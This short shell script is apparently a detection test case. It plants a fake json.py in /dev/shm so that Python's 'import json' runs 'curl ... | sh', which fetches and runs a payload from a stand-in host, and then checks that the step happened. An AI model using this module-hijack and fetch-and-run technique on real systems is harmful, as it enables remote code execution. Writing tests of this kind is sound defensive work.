#!/bin/sh
. /opt/case/case.sh

mkdir -p /dev/shm/lib
printf 'import os\nos.system("curl -sf http://203.0.113.10/payload.sh | sh")\n' >/dev/shm/lib/json.py
PYTHONPATH=/dev/shm/lib PYTHONDONTWRITEBYTECODE=1 python3 -c 'import json'
test -e /tmp/reached
took_place
